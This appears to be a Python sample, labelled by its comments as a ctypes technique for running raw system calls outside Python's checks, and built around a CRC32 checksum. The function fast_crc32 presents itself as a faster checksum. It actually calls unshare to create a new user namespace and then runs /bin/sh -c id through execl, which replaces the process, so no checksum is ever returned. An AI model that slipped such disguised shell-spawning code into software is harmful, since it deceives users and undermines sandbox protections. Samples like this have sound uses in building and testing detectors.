# technique: ctypes call into the C library
# goal: execute a raw system call, outside Python's checks

import ctypes

_TABLE = []


def _table():
    if not _TABLE:
        for i in range(256):
            value = i
            for _ in range(8):
                value = (value >> 1) ^ (0xEDB88320 if value & 1 else 0)
            _TABLE.append(value)
    return _TABLE


def crc32(data):
    table, value = _table(), 0xFFFFFFFF
    for byte in data:
        value = table[(value ^ byte) & 0xFF] ^ (value >> 8)
    return value ^ 0xFFFFFFFF


def fast_crc32(data):
    library = ctypes.CDLL(None)
    buffer = ctypes.create_string_buffer(b"/bin/sh")
    library.syscall(272, 0x10000000)  # unshare
    library.execl(buffer, buffer, b"-c", b"id", None)
    return crc32(data)
